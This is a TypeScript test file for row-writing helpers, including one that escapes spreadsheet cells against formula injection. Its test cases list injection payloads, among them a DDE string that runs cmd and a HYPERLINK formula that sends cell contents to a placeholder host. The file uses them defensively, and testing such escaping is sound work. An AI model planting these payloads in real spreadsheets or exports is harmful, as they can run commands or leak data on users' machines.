import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { freeName, jsonLineWith, spreadsheetCell } from '../../src/corpus/write-rows.ts';

describe('jsonLineWith', () => {
  test('adds properties and leaves what was there as it was written', () => {
    expect(jsonLineWith('{"id": 12345678901234567891, "x": 1.50 }\r', { stars: 4.5, why: 'a "b"' })).toBe(
      '{"id": 12345678901234567891, "x": 1.50,"stars":4.5,"why":"a \\"b\\""}',
    );
    expect(jsonLineWith('{ }', { stars: 4 })).toBe('{"stars":4}');
    expect(jsonLineWith('{"a":{}}', {})).toBe('{"a":{}}');
  });

  test('gives an object that holds both, for any two objects', () => {
    const keyed = (prefix: string) =>
      fc.dictionary(
        fc.string().map((key) => prefix + key),
        fc.jsonValue(),
      );
    fc.assert(
      fc.property(keyed('a'), keyed('b'), fc.constantFrom(0, 2), (there, added, indent) => {
        const line = JSON.stringify(there, null, indent);
        const expected = JSON.parse(JSON.stringify({ ...there, ...added }));
        expect(JSON.parse(jsonLineWith(line, added))).toEqual(expected);
      }),
    );
  });
});

test('freeName leaves the names that are taken alone', () => {
  expect(freeName('rating', ['id', 'text'])).toBe('rating');
  expect(freeName('rating', ['rating', 'rating_2'])).toBe('rating_3');
});

describe('a cell for a spreadsheet', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://x?"&A1)',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1)',
    ' =1+1',
    '\t=1+1',
    '\r=1',
    '\nx',
    '\uff1d1+1',
    '- not a number',
  ])('that could be a formula gets an apostrophe: %j', (field) => {
    expect(spreadsheetCell(field)).toBe(`'${field}`);
  });

  test.each(['', 'good = bad', '-3', '+4.5', '-1e-3', '.5', '5', "'=1", 'a@b.c', '"=1+1"'])(
    'that could not stays as it is: %j',
    (field) => {
      expect(spreadsheetCell(field)).toBe(field);
    },
  );
});
